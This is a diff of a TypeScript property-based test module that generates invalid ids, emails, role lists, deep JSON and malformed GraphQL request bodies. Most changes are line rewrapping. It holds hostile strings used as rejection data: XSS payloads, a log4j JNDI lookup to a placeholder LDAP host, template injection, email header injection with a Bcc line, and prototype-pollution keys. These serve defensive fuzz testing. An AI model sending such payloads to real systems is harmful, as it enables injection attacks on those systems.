@@ -53,6 +53,7 @@ export const INJECTIONS = [
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
   'javascript:alert(1)',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup string, sent as data on purpose
   '${jndi:ldap://example.com/a}',
   '{{7*7}}',
   '%00',
@@ -83,20 +84,41 @@ const codePoint = fc
   .map((code) => String.fromCodePoint(code));
 
 /** Text of any code points (what fc.string({ unit: 'binary' }) gives, without its second of set-up). */
-const anyText = (maxLength: number, minLength = 0) => fc.array(codePoint, { minLength, maxLength }).map((chars) => chars.join(''));
+const anyText = (maxLength: number, minLength = 0) =>
+  fc.array(codePoint, { minLength, maxLength }).map((chars) => chars.join(''));
 
 // Arrays joined rather than fc.string({ unit }): with some units fc.string precomputes
 // shrinking slices, which can cost a second per arbitrary at import.
 const hexDigit = fc.constantFrom(...'0123456789abcdef');
 const hexDigitAnyCase = fc.constantFrom(...'0123456789abcdefABCDEF');
-const hex = (minLength: number, maxLength = minLength) => fc.array(hexDigitAnyCase, { minLength, maxLength }).map((digits) => digits.join(''));
+const hex = (minLength: number, maxLength = minLength) =>
+  fc.array(hexDigitAnyCase, { minLength, maxLength }).map((digits) => digits.join(''));
 
 /** 24 lowercase hexadecimal characters: a valid id, usually of no project. */
-export const wellFormedId: fc.Arbitrary<string> = fc.array(hexDigit, { minLength: 24, maxLength: 24 }).map((digits) => digits.join(''));
+export const wellFormedId: fc.Arbitrary<string> = fc
+  .array(hexDigit, { minLength: 24, maxLength: 24 })
+  .map((digits) => digits.join(''));
 
 /** Characters that are not hexadecimal digits but look like them, or hide. */
 const notHexDigit = fc.oneof(
-  fc.constantFrom('g', 'G', 'x', 'z', 'O', 'l', '-', ' ', '\u0663', '\uff10', '\uff41', '\u00e9', '\u0000', '\n', '\u200b', '\ud83d\udca5'),
+  fc.constantFrom(
+    'g',
+    'G',
+    'x',
+    'z',
+    'O',
+    'l',
+    '-',
+    ' ',
+    '\u0663',
+    '\uff10',
+    '\uff41',
+    '\u00e9',
+    '\u0000',
+    '\n',
+    '\u200b',
+    '\ud83d\udca5',
+  ),
   fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }).filter((c) => !/^[0-9a-fA-F]$/.test(c)),
 );
 
@@ -109,11 +131,21 @@ export const invalidObjectId: fc.Arbitrary<string> = fc
     fc.string({ unit: 'grapheme', maxLength: 30 }),
     anyText(30),
     fc.oneof(hex(23), hex(25), hex(0, 22), hex(26, 64)),
-    fc.tuple(wellFormedId, fc.nat({ max: 23 }), notHexDigit).map(([id, at, c]) => id.slice(0, at) + c + id.slice(at + 1)),
+    fc
+      .tuple(wellFormedId, fc.nat({ max: 23 }), notHexDigit)
+      .map(([id, at, c]) => id.slice(0, at) + c + id.slice(at + 1)),
     fc.tuple(invisiblePadding, wellFormedId, invisiblePadding).map(([before, id, after]) => before + id + after),
-    fc.tuple(fc.constantFrom(...INJECTIONS), wellFormedId, fc.constantFrom('alone', 'before', 'after', 'inside')).map(([text, id, where]) =>
-      where === 'alone' ? text : where === 'before' ? text + id : where === 'after' ? id + text : id.slice(0, 12) + text + id.slice(12),
-    ),
+    fc
+      .tuple(fc.constantFrom(...INJECTIONS), wellFormedId, fc.constantFrom('alone', 'before', 'after', 'inside'))
+      .map(([text, id, where]) =>
+        where === 'alone'
+          ? text
+          : where === 'before'
+            ? text + id
+            : where === 'after'
+              ? id + text
+              : id.slice(0, 12) + text + id.slice(12),
+      ),
   )
   .filter((value) => !isObjectId(value));
 
@@ -132,16 +164,42 @@ export const invalidEmail: fc.Arbitrary<string> = fc
     fc.string({ unit: 'grapheme', maxLength: 40 }),
     anyText(40),
     fc.tuple(localPart, domain).map(([local, host]) => local + host),
-    fc.tuple(localPart, fc.array(domain, { minLength: 2, maxLength: 8 })).map(([local, hosts]) => [local, ...hosts].join('@')),
     fc
-      .tuple(localPart, domain, fc.constantFrom('\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u0085'), fc.constantFrom('Bcc: victim@example.com', 'X-Injected: 1'))
+      .tuple(localPart, fc.array(domain, { minLength: 2, maxLength: 8 }))
+      .map(([local, hosts]) => [local, ...hosts].join('@')),
+    fc
+      .tuple(
+        localPart,
+        domain,
+        fc.constantFrom('\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u0085'),
+        fc.constantFrom('Bcc: victim@example.com', 'X-Injected: 1'),
+      )
       .map(([local, host, newline, header]) => `${local}@${host}${newline}${header}`),
     fc.integer({ min: 243, max: 5_000 }).map((length) => `${'a'.repeat(length)}@example.com`),
     fc
-      .tuple(localPart, domain, fc.constantFrom('\u00e9', '\u00df', '\u044f', '\u4e2d', '\ud83d\ude00', '\u0301', '\uff41'), fc.boolean())
+      .tuple(
+        localPart,
+        domain,
+        fc.constantFrom('\u00e9', '\u00df', '\u044f', '\u4e2d', '\ud83d\ude00', '\u0301', '\uff41'),
+        fc.boolean(),
+      )
       .map(([local, host, c, inLocal]) => (inLocal ? `${local}${c}@${host}` : `${local}@${c}${host}`)),
     fc.tuple(localPart, domain).map(([local, host]) => `${local}\uff20${host}`),
-    fc.constantFrom(...INJECTIONS, '', ' ', '@', '@@', 'a@', '@example.com', 'a@b', 'a@b.', 'a@.com', 'a..b@example.com', '.a@example.com', 'a@-x.com'),
+    fc.constantFrom(
+      ...INJECTIONS,
+      '',
+      ' ',
+      '@',
+      '@@',
+      'a@',
+      '@example.com',
+      'a@b',
+      'a@b.',
+      'a@.com',
+      'a..b@example.com',
+      '.a@example.com',
+      'a@-x.com',
+    ),
     fc.tuple(fc.constantFrom(...INJECTIONS), localPart, domain).map(([text, local, host]) => `${local}${text}@${host}`),
   )
   .filter((value) => !isAcceptedEmail(value));
@@ -171,17 +229,29 @@ export const invalidRoleListLiteral: fc.Arbitrary<string> = fc
     ),
     fc.oneof({ weight: 9, arbitrary: fc.constant(0) }, { weight: 1, arbitrary: fc.integer({ min: 100, max: 2_500 }) }),
   )
-  .map(([valid, invalid, padding]) => `[${[...valid, ...invalid, ...Array.from({ length: padding }, (_, i) => ROLES[i % ROLES.length]!)].join(', ')}]`);
+  .map(
+    ([valid, invalid, padding]) =>
+      `[${[...valid, ...invalid, ...Array.from({ length: padding }, (_, i) => ROLES[i % ROLES.length]!)].join(', ')}]`,
+  );
 
 /** A value of `roles: [ProjectRole!]!` in variables that is not a role list: unknown names, wrong types, nulls. */
 export const invalidRoleListVariable: fc.Arbitrary<unknown> = fc.oneof(
   fc
     .tuple(
       fc.array(fc.constantFrom(...ROLES), { maxLength: 5 }),
-      fc.array(fc.oneof(unknownRoleName, fc.integer(), fc.boolean(), fc.constant(null), fc.dictionary(fc.string(), fc.string(), { maxKeys: 2 })), {
-        minLength: 1,
-        maxLength: 5,
-      }),
+      fc.array(
+        fc.oneof(
+          unknownRoleName,
+          fc.integer(),
+          fc.boolean(),
+          fc.constant(null),
+          fc.dictionary(fc.string(), fc.string(), { maxKeys: 2 }),
+        ),
+        {
+          minLength: 1,
+          maxLength: 5,
+        },
+      ),
     )
     .map(([valid, invalid]) => [...valid, ...invalid]),
   unknownRoleName,
@@ -219,12 +289,29 @@ export interface DeepJson {
 
 /** JSON text nested `depth` levels deep (arrays, objects or both). */
 export const deepJson: fc.Arbitrary<DeepJson> = fc
-  .record({ depth: fc.integer({ min: 50, max: 5_000 }), shape: fc.constantFrom('array', 'object', 'mixed'), leaf: fc.jsonValue({ maxDepth: 1 }) })
+  .record({
+    depth: fc.integer({ min: 50, max: 5_000 }),
+    shape: fc.constantFrom('array', 'object', 'mixed'),
+    leaf: fc.jsonValue({ maxDepth: 1 }),
+  })
   .map(({ depth, shape, leaf }) => {
-    const levels = Array.from({ length: depth }, (_, level) => shape === 'array' || (shape === 'mixed' && level % 2 === 0));
-    const text = levels.map((asArray) => (asArray ? '[' : '{"a":')).join('') + JSON.stringify(leaf) + levels.reverse().map((asArray) => (asArray ? ']' : '}')).join('');
+    const levels = Array.from(
+      { length: depth },
+      (_, level) => shape === 'array' || (shape === 'mixed' && level % 2 === 0),
+    );
+    const text =
+      levels.map((asArray) => (asArray ? '[' : '{"a":')).join('') +
+      JSON.stringify(leaf) +
+      levels
+        .reverse()
+        .map((asArray) => (asArray ? ']' : '}'))
+        .join('');
     // fast-check prints a counterexample in full: describe this one instead.
-    return { depth, text, [fc.toStringMethod]: () => `${shape} JSON ${depth} levels deep around ${JSON.stringify(leaf)}` };
+    return {
+      depth,
+      text,
+      [fc.toStringMethod]: () => `${shape} JSON ${depth} levels deep around ${JSON.stringify(leaf)}`,
+    };
   });
 
 /** Edits of a valid document: inserted control characters, Unicode and punctuation, deletions, replacements. */
@@ -235,23 +322,51 @@ const documentEdit = fc.oneof(
     text: fc.oneof(
       anyText(3, 1),
       fc.string({ unit: 'grapheme', minLength: 1, maxLength: 3 }),
-      fc.constantFrom('\u0000', '\u0007', '\u001b', '\u007f', '\u2028', '\u202e', '\ufeff', '\ud800', '{', '}', '(', ')', '"', '\\', '#', '$', '@', '...', '!', ':', '\n'),
+      fc.constantFrom(
+        '\u0000',
+        '\u0007',
+        '\u001b',
+        '\u007f',
+        '\u2028',
+        '\u202e',
+        '\ufeff',
+        '\ud800',
+        '{',
+        '}',
+        '(',
+        ')',
+        '"',
+        '\\',
+        '#',
+        '$',
+        '@',
+        '...',
+        '!',
+        ':',
+        '\n',
+      ),
     ),
   }),
   fc.record({ kind: fc.constant('delete' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 5 }) }),
-  fc.record({ kind: fc.constant('replace' as const), at: fc.nat(), text: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }) }),
+  fc.record({
+    kind: fc.constant('replace' as const),
+    at: fc.nat(),
+    text: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
+  }),
 );
 
 /** A document from `documents` with one to three edits applied. */
 export function editedDocument(documents: readonly string[]): fc.Arbitrary<string> {
-  return fc.tuple(fc.constantFrom(...documents), fc.array(documentEdit, { minLength: 1, maxLength: 3 })).map(([document, edits]) =>
-    edits.reduce((text, edit) => {
-      const at = edit.at % (text.length + 1);
-      if (edit.kind === 'insert') return text.slice(0, at) + edit.text + text.slice(at);
-      if (edit.kind === 'delete') return text.slice(0, at) + text.slice(at + edit.length);
-      return text.slice(0, at) + edit.text + text.slice(at + 1);
-    }, document),
-  );
+  return fc
+    .tuple(fc.constantFrom(...documents), fc.array(documentEdit, { minLength: 1, maxLength: 3 }))
+    .map(([document, edits]) =>
+      edits.reduce((text, edit) => {
+        const at = edit.at % (text.length + 1);
+        if (edit.kind === 'insert') return text.slice(0, at) + edit.text + text.slice(at);
+        if (edit.kind === 'delete') return text.slice(0, at) + text.slice(at + edit.length);
+        return text.slice(0, at) + edit.text + text.slice(at + 1);
+      }, document),
+    );
 }
 
 /** Request bodies that are not one GraphQL request: bytes, text, any JSON, envelopes with wrong or random members. */
@@ -270,14 +385,19 @@ export const garbageBody: fc.Arbitrary<Uint8Array<ArrayBuffer> | string> = fc.on
         },
         { requiredKeys: [] },
       ),
-      fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'queryId', 'documentId', 'id'), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 2 }),
+      fc.dictionary(
+        fc.constantFrom('__proto__', 'constructor', 'queryId', 'documentId', 'id'),
+        fc.jsonValue({ maxDepth: 1 }),
+        { maxKeys: 2 },
+      ),
     )
     .map(([envelope, extra]) => JSON.stringify({ ...extra, ...envelope })),
   fc.array(fc.record({ query: fc.string({ maxLength: 20 }) }), { maxLength: 3 }).map((batch) => JSON.stringify(batch)),
 );
 
 /** The content types Yoga reads a request in (and CSRF prevention refuses the simple ones of). */
-const READABLE_CONTENT_TYPE = /^\s*(application\/json|application\/graphql|text\/plain|multipart\/form-data|application\/x-www-form-urlencoded)\b/i;
+const READABLE_CONTENT_TYPE =
+  /^\s*(application\/json|application\/graphql|text\/plain|multipart\/form-data|application\/x-www-form-urlencoded)\b/i;
 
 /** Content types the GraphQL endpoint does not take a JSON request in, and random ones. */
 export const unsupportedContentType: fc.Arbitrary<string> = fc.oneof(
